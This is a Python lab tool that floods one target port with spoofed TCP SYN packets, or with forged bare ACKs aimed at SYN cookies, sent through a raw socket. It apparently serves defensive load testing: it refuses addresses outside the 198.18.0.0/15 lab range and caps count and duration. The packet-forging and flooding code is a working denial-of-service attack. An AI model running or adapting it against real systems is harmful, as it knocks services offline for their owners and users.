#!/usr/bin/env python3
"""A bounded spoofed SYN flood for the lab: TCP SYNs from random source addresses inside a lab
prefix (default 198.18.128.0/17) to one VIP port, at most --count packets and --duration seconds.
--ack sends bare ACKs with random numbers instead (forged SYN-cookie answers).

    syn_flood.py --dst 198.18.0.10 --dport 80 [--prefix 198.18.128.0/17] [--count N]
                 [--duration S] [--variety K] [--rate PPS] [--announce] [--ack]

Run inside the client namespace (root: raw socket). Packets are built before the clock starts
(K distinct source address/port/ISN combinations, reused round robin), so the loop only sends.
Prints one JSON line: packets sent, seconds, packets per second. Refuses prefixes outside
198.18.0.0/15 (the lab's addresses; DESIGN.md).
"""
import argparse
import ipaddress
import json
import random
import socket
import struct
import sys
import time

LAB = ipaddress.ip_network("198.18.0.0/15")


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def segment(src: bytes, dst: bytes, sport: int, dport: int, isn: int, ack: bool) -> bytes:
    if ack:  # a bare ACK acknowledging a random "cookie"
        options = b""
        tcp = struct.pack("!HHIIBBHHH", sport, dport, isn, random.getrandbits(32), 5 << 4, 0x10,
                          502, 0, 0)
    else:  # MSS, SACK-permitted, timestamps, window scale: what a Linux client offers
        options = struct.pack("!BBH", 2, 4, 1460) + bytes([4, 2, 8, 10]) + \
            struct.pack("!II", random.getrandbits(32), 0) + bytes([1, 3, 3, 7])
        offset = (20 + len(options)) // 4
        tcp = struct.pack("!HHIIBBHHH", sport, dport, isn, 0, offset << 4, 0x02, 64240, 0,
                          0) + options
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0x4000, 64,
                     6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--dst", default="198.18.0.10")
    ap.add_argument("--dport", type=int, default=80)
    ap.add_argument("--prefix", default="198.18.128.0/17")
    ap.add_argument("--count", type=int, default=100000)
    ap.add_argument("--duration", type=float, default=5.0)
    ap.add_argument("--variety", type=int, default=8192)
    ap.add_argument("--ack", action="store_true", help="bare ACKs instead of SYNs")
    ap.add_argument("--announce", action="store_true",
                    help='print {"event": "started"} when the packets are built and sending starts')
    ap.add_argument("--rate", type=float, default=0,
                    help="at most this many packets per second (0: as fast as it goes)")
    args = ap.parse_args()
    prefix = ipaddress.ip_network(args.prefix)
    dst = ipaddress.ip_address(args.dst)
    if not prefix.subnet_of(LAB) or dst not in LAB:
        print(f"syn_flood: {args.prefix} / {args.dst} outside the lab's {LAB}", file=sys.stderr)
        return 2
    if args.count <= 0 or args.duration <= 0 or args.duration > 60:
        print("syn_flood: --count > 0 and 0 < --duration <= 60", file=sys.stderr)
        return 2
    first, size = int(prefix.network_address), prefix.num_addresses
    packets = []
    for _ in range(args.variety):
        src = (first + random.randrange(1, size - 1)).to_bytes(4, "big")
        packets.append(segment(src, dst.packed, random.randrange(1024, 65536), args.dport,
                               random.getrandbits(32), args.ack))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    if args.announce:
        print(json.dumps({"event": "started", "variety": len(packets)}), flush=True)
    target = (args.dst, 0)
    sent = 0
    t0 = time.monotonic()
    deadline = t0 + args.duration
    n = len(packets)
    while sent < args.count:
        # Check the clock every 256 packets: the loop must stay cheap.
        for i in range(sent, min(sent + 256, args.count)):
            try:
                s.sendto(packets[i % n], target)
            except OSError:  # socket buffer full: the kernel drops, we move on
                pass
        sent = min(sent + 256, args.count)
        now = time.monotonic()
        if now >= deadline:
            break
        if args.rate > 0 and t0 + sent / args.rate > now:  # paced: wait for this chunk's due time
            time.sleep(min(t0 + sent / args.rate, deadline) - now)
    elapsed = time.monotonic() - t0
    print(json.dumps({"sent": sent, "seconds": round(elapsed, 3),
                      "pps": round(sent / elapsed) if elapsed > 0 else 0}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
